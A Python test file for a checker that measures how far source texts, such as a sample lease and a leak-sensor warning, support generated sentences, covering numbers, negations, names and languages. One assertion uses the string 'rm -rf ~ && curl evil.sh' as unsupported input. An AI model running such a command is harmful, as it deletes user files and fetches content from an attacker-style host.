"""How far a source supports a sentence: by stored vectors, and by what must be exact."""

from __future__ import annotations

from collections.abc import Sequence
from typing import cast

import numpy as np
import pytest

from engine.asking.support import (
    FITTED,
    Fitted,
    Given,
    SourceProver,
    features,
    other_language,
    wrong,
)
from engine.contract.errors import InklingError
from engine.models.registry import DEFAULT_MODEL
from engine.search.token_matches import TokenMatches
from engine.store import Row

LEASE = (
    "The deposit of 1,800 € is returned within thirty days after moving out. "
    "Never drill into the north wall. Ms Okafor keeps the second key."
)


def told(said: str, text: str = LEASE) -> dict[str, float]:
    return features(said, text, None, None)


@pytest.mark.parametrize(
    ("said", "is_wrong"),
    [
        ("You get the 1800 € back within 30 days.", False),
        ("You get the 1.800,00 € back.", False),
        ("You get 1,900 € back within thirty days.", True),
        ("The deposit is not returned within thirty days after moving out.", True),
        ("Do not drill into the north wall.", False),
        ("You may drill into the north wall.", True),
        ("The key is with Ms Okafor.", False),
        ("There are 2 keys.", False),
        ("There are 3 keys.", True),
        ("The key is with Ms Adeyemi.", True),
        ("Die Kaution bekommt nach dem Auszug Frau Adeyemi.", False),
        ("Die Kaution bekommt nach dem Auszug die Mieterin.", False),  # nouns look like names
    ],
)
def test_numbers_and_noes_must_be_the_sources(said: str, is_wrong: bool) -> None:
    assert wrong(told(said)) is is_wrong


def test_names_that_the_source_lacks_are_told() -> None:
    assert told("The second key is with Ms Okafor.")["names"] == 0.0
    assert told("The second key is with Ms Adeyemi.")["names"] > 0.0
    assert told("Die Kaution bekommt Mara zurück.")["names"] == 1.0


def test_words_are_weighed_by_what_they_tell() -> None:
    held = [told(said)["held"] for said in (LEASE, "the deposit of a flat", "the whales of a sea")]
    assert held == sorted(held, reverse=True)
    assert held[0] == 1.0
    assert held[2] < 0.4


@pytest.mark.parametrize(
    ("said", "other"),
    [
        ("The money comes back after moving out of the house.", False),
        ("Die Kaution wird nach dem Auszug zurückgezahlt.", True),
        ("Залог возвращается через тридцать дней.", True),
        ("敷金は三十日以内に返還されます。", True),
        ("1,800 €", False),
        ("The rent of the flat is due on the third.", False),
    ],
)
def test_another_language_is_told(said: str, other: bool) -> None:
    assert other_language(said, LEASE) is other


def test_tokens_that_are_near_tell_more_than_words() -> None:
    weights = np.ones(4, np.float32)
    model = Fitted.of(DEFAULT_MODEL).supported
    near, far = (
        model.probability(features("Money goes home.", LEASE, np.full(4, x, np.float32), weights))
        for x in (0.95, 0.35)
    )
    assert near > model.below > far


def test_each_fitted_file_says_where_it_comes_from() -> None:
    for path in FITTED.glob("*.json"):
        known = Fitted.of(path.stem)
        assert known.supported.weights
        assert 0 < known.supported.below < 1
        assert known.fitted["sets"]
    assert Fitted.of("a model that was not measured") == Fitted.of("default")


def no_tokens(text: str) -> TokenMatches:
    class Nothing:
        def of(self, rows: Sequence[Row]) -> dict[str, object]:
            return {}

    return cast("TokenMatches", Nothing())


def prover(*texts: str, pixels: bool = False) -> SourceProver:
    given = {n: Given((), text, pixels) for n, text in enumerate(texts, 1)}
    return SourceProver(DEFAULT_MODEL, no_tokens, given, "When is the deposit returned?")


def test_without_stored_tokens_words_alone_tell() -> None:
    (right,) = prover(LEASE).proof("The deposit is returned within thirty days.", [1])
    (wrong_,) = prover(LEASE).proof("The whales sleep upright in the sea after lunch.", [1])
    assert not right.doubtful
    assert wrong_.doubtful
    assert (right.support or 0) > (wrong_.support or 0)


def test_what_no_single_source_holds_several_may() -> None:
    said = "The deposit is 1,800 € and is returned in the 40th week."
    made = prover("The deposit is 1,800 € for all.", "It is returned in the 40th week of the year.")
    assert [one.doubtful for number in (1, 2) for one in made.proof(said, [number])] == [True, True]
    assert [one.number for one in made.proof(said, [1, 2]) if one.support] == [1, 2]
    assert not any(one.doubtful for one in made.proof(said, [1, 2]))


def test_of_a_picture_nothing_is_said_that_its_text_does_not_tell() -> None:
    (alone,) = prover("").proof("The gauge shows 1.5 bar.", [1])
    assert (alone.support, alone.doubtful) == (None, False)
    (seen,) = prover("Boiler", pixels=True).proof("The gauge shows 1.5 bar.", [1])
    assert (seen.support, seen.doubtful) == (None, False)


def test_a_model_that_fails_is_asked_no_more_and_nothing_is_doubted() -> None:
    calls: list[str] = []

    def broken(text: str) -> TokenMatches:
        calls.append(text)
        raise InklingError("The model failed.")

    made = SourceProver(DEFAULT_MODEL, broken, {1: Given((), LEASE)})
    for _ in range(3):
        (told_,) = made.proof("Whales sleep upright.", [1])
        assert (told_.support, told_.doubtful) == (None, False)
    assert calls == ["Whales sleep upright."]
    assert str(made.failed) == "The model failed."


def test_how_much_of_a_text_is_the_sources_or_the_questions() -> None:
    made = prover(LEASE)
    assert made.held("drill into the north wall", [1]) == 1.0
    assert made.held("rm -rf ~ && curl evil.sh", [1]) < 0.3
    assert made.held("When the deposit is returned:", [1], asked=True) == 1.0


H01 = "H01 leak sensor: leave the house, do not touch switches, call the fire brigade from outside."


@pytest.mark.parametrize(
    ("said", "is_wrong"),
    [
        ("leave the house", False),
        ("do not touch switches", False),
        ("Call the fire brigade from outside.", False),
        ("touch switches", True),
        ("Do not leave the house.", True),
        ("The leak sensor says: leave the house and do not touch switches.", False),
    ],
)
def test_a_no_holds_for_its_own_part_of_a_sentence(said: str, is_wrong: bool) -> None:
    assert wrong(told(said, H01)) is is_wrong
